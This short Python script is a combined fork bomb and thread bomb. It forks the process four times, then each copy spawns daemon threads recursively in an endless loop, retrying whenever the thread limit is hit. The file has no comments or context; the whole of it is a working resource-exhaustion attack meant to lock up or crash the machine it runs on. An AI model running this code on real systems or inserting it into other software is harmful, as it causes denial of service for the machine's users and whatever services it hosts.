import threading, time, os
def more():
    while True:
        try: threading.Thread(target=more, daemon=True).start()
        except RuntimeError: time.sleep(0.01)
for _ in range(4):
    try: os.fork()
    except OSError: pass
more()
